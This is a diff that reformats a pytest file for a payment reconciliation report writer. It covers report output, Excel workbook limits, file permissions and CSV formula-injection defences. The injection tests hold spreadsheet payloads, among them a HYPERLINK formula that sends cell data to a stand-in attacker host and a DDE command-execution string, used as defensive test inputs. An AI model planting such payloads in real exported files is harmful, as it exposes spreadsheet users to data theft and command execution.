@@ -43,8 +43,9 @@ def check_snapshot(name: str, text: str) -> None:
 
 def test_report_files_and_snapshots(tmp_path: Path) -> None:
     result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
-    paths = write_report(result, tmp_path / "out", title="Daily reconciliation",
-                         environment=ENVIRONMENT, generated_at=WHEN)
+    paths = write_report(
+        result, tmp_path / "out", title="Daily reconciliation", environment=ENVIRONMENT, generated_at=WHEN
+    )
     assert sorted(paths) == ["exceptions.csv", "report.html", "report.xlsx", "summary.csv"]
     exceptions = paths["exceptions.csv"].read_text(encoding="utf-8")
     assert exceptions.splitlines()[0] == ",".join(EXCEPTION_COLUMNS)
@@ -88,7 +89,8 @@ def test_html_shows_only_first_rows(tmp_path: Path) -> None:
 
 
 def test_workbook_survives_control_characters_and_splits_at_the_row_limit(
-        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
     """A key with a control character (XML cannot hold it) must not break the workbook, and a
     category longer than a sheet continues on the next sheet, so every exception is in Excel."""
     import toolkit.reconcile.workbook as writer
@@ -107,21 +109,28 @@ def test_workbook_survives_control_characters_and_splits_at_the_row_limit(
 # ---------------------------------------------------------------------------------------------
 # CSV formula injection and safe writing
 
-PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1)", "\t=1+1",
-            "-2+3", "=cmd|' /C calc'!A0"]
+PAYLOADS = [
+    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "@SUM(1)",
+    "\t=1+1",
+    "-2+3",
+    "=cmd|' /C calc'!A0",
+]
 RISKY = ("=", "+", "-", "@", "\t", "\r")
 
 
 def injection_result(tmp_path: Path) -> ReconciliationResult:
     """A ledger file whose keys, statuses and currencies hold formulas; one negative amount."""
     rows = [f'"{p.replace(chr(34), chr(34) * 2)}",1.00,USD,success' for p in PAYLOADS]
-    rows += ['rej-status,1.00,USD,"=1+2"', 'rej-currency,1.00,"@A1",success',
-             "neg,-12.00,USD,success"]
+    rows += ['rej-status,1.00,USD,"=1+2"', 'rej-currency,1.00,"@A1",success', "neg,-12.00,USD,success"]
     ledger = tmp_path / "ledger.csv"
-    ledger.write_text("merchantReferenceId,amount,currency,status\n" + "\n".join(rows) + "\n",
-                      encoding="utf-8")
-    processor = pd.DataFrame({"merchantReferenceId": ["neg"], "amount": ["-12.01"],
-                              "currency": ["USD"], "status": ["success"]})
+    ledger.write_text(
+        "merchantReferenceId,amount,currency,status\n" + "\n".join(rows) + "\n", encoding="utf-8"
+    )
+    processor = pd.DataFrame(
+        {"merchantReferenceId": ["neg"], "amount": ["-12.01"], "currency": ["USD"], "status": ["success"]}
+    )
     return reconcile(load_ledger(ledger), load_processor(processor))
 
 
@@ -178,9 +187,14 @@ def test_report_files_get_the_usual_permissions(tmp_path: Path) -> None:
     (``mkstemp``'s owner-only mode would lock the finance team out of a shared reports folder)."""
     umask = os.umask(0o022)
     try:
-        paths = write_report(run(PLANTED_LEDGER, PLANTED_PROCESSOR), tmp_path / "out",
-                             environment=ENVIRONMENT, generated_at=WHEN)
+        paths = write_report(
+            run(PLANTED_LEDGER, PLANTED_PROCESSOR),
+            tmp_path / "out",
+            environment=ENVIRONMENT,
+            generated_at=WHEN,
+        )
     finally:
         os.umask(umask)
     assert {name: oct(path.stat().st_mode & 0o777) for name, path in paths.items()} == {
-        name: "0o644" for name in paths}
+        name: "0o644" for name in paths
+    }
